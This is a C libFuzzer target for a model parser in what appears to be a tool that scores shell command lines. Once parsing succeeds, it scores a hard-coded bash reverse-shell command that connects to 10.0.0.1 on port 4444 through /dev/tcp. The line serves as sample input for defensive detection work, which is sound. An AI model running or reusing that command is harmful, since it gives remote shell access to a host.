/* fuzz_model.c: libFuzzer target for the model parser (`--model FILE`): any bytes are parsed or
 * refused with a "model:LINE: reason" message; a model that parses scores a command line. */
#include <stdlib.h>
#include <string.h>
#include "model.h"
#include "score.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct model m;
	char err[256];

	err[0] = '\0';
	if (model_parse(&m, (const char *)data, size, err, sizeof(err))) {
		if (strncmp(err, "model:", 6) || m.w)
			abort();
		return 0;
	}
	if (m.bits < FEAT_BITS_MIN || m.bits > FEAT_BITS_MAX || !m.w)
		abort();
	score_cmdline(&m, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 38, NULL);
	model_free(&m);
	return 0;
}
